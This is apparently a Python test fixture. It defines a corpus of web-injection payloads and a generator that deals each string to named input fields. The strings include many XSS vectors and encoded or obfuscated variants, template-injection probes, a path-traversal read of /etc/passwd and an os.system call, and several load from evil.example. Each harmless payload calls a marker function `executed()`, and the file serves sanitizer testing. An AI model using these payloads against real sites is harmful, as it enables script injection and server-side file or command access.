"""What a link or an input may bring that wants to be more than text: markup, scripts, addresses,
templates, and letters that are not what they seem. Where one of them runs, it calls `executed`."""

from __future__ import annotations

from collections.abc import Iterator

_MARKUP = r"""
<script>executed()</script>
<SCRIPT>executed()</SCRIPT>
<script src=data:text/javascript,executed()></script>
<script src=https://evil.example/x.js></script>
<script type=module>executed()</script>
<scr<script>ipt>executed()</scr</script>ipt>
</script><script>executed()</script>
<script/x>executed()</script>
<img src=x onerror=executed()>
<img src=x onerror="executed()">
<img/src=x/onerror=executed()>
<img src=x:x onerror=&#101;xecuted()>
<IMG SRC=X ONERROR=executed()>
<image src=x onerror=executed()>
<img srcset=x onerror=executed()>
<svg onload=executed()>
<svg/onload=executed()>
<svg><script>executed()</script></svg>
<svg><animate onbegin=executed() attributeName=x dur=1s>
<svg><set onbegin=executed() attributeName=x>
<svg><a href="javascript:executed()"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=executed()>#x"/></svg>
<svg><foreignObject><img src=x onerror=executed()></foreignObject></svg>
<svg><style><img src=x onerror=executed()></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=executed()></style></mglyph></table></math>
<math href="javascript:executed()">x</math>
<body onload=executed()>
<input autofocus onfocus=executed()>
<select autofocus onfocus=executed()></select>
<textarea autofocus onfocus=executed()></textarea>
<details open ontoggle=executed()>
<video src=x onerror=executed()></video>
<video><source onerror=executed()></video>
<audio src=x onerror=executed()></audio>
<iframe src="javascript:parent.executed()"></iframe>
<iframe srcdoc="<script>parent.executed()</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<object data="javascript:executed()"></object>
<embed src="javascript:executed()">
<form action="javascript:executed()"><button>x</button></form>
<button formaction="javascript:executed()" autofocus onfocus=executed()>x</button>
<a href="javascript:executed()">x</a>
<a href="java&#10;script:executed()">x</a>
<base href=https://evil.example/>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:executed()">
<style>*{background:url(https://evil.example/x)}</style>
<div style="background:url(https://evil.example/x)">x</div>
<p id=x tabindex=1 onfocus=executed() autofocus>x</p>
<template><img src=x onerror=executed()></template>
<noscript><p title="</noscript><img src=x onerror=executed()>">
<!--><img src=x onerror=executed()>-->
<![CDATA[<img src=x onerror=executed()>]]>
<lesson-widget id=ring><img src=x onerror=executed()></lesson-widget>
<marquee onstart=executed()>x</marquee>
"><img src=x onerror=executed()>
'><img src=x onerror=executed()>
"autofocus onfocus="executed()
' autofocus onfocus='executed()
` onfocus=executed() autofocus `
--><img src=x onerror=executed()>
</title><img src=x onerror=executed()>
</textarea><img src=x onerror=executed()>
</option></select><img src=x onerror=executed()>
</noscript><img src=x onerror=executed()>
&lt;img src=x onerror=executed()&gt;
&#60;img src=x onerror=executed()&#62;
%3Cimg%20src=x%20onerror=executed()%3E
%253Cimg%2520src%253Dx%2520onerror%253Dexecuted()%253E
\u003cimg src=x onerror=executed()\u003e
＜img src=x onerror=executed()＞
javascript:executed()
JaVaScRiPt:executed()
data:text/html,<script>executed()</script>
//evil.example/x
https://evil.example/x
blob:https://evil.example/x
{{ executed() }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% import os %}
{{ config.__class__ }}
${executed()}
#{executed()}
");executed();("
');executed();('
__proto__
constructor
__import__('os').system('x')
../../../../etc/passwd
8&ring.n=9&go=<img src=x onerror=executed()>
go=n%3D%3Cimg%20src%3Dx%20onerror%3Dexecuted()%3E
""".strip().splitlines()

_LETTERS = (
    "<img src=x\x00 onerror=executed()>",
    "<img\tsrc=x\nonerror=executed()>",
    "java\tscript:executed()",
    "\ufeff<script>executed()</script>",
    "\u202e<img src=x onerror=executed()>",
    "\u2028executed()\u2029",
    "\x1b]0;executed()\x07",
    "\U000e0001" * 9 + "<svg onload=executed()>",
    "8" * 3_000 + "<svg onload=executed()>",
)

CORPUS: tuple[str, ...] = (*_MARKUP, *_LETTERS)


def dealt(names: list[str]) -> Iterator[dict[str, str]]:
    """As many questions as there are strings, in which every name gets every string once."""
    count = len(CORPUS)
    for turn in range(count):
        yield {name: CORPUS[(turn + i) % count] for i, name in enumerate(names)}
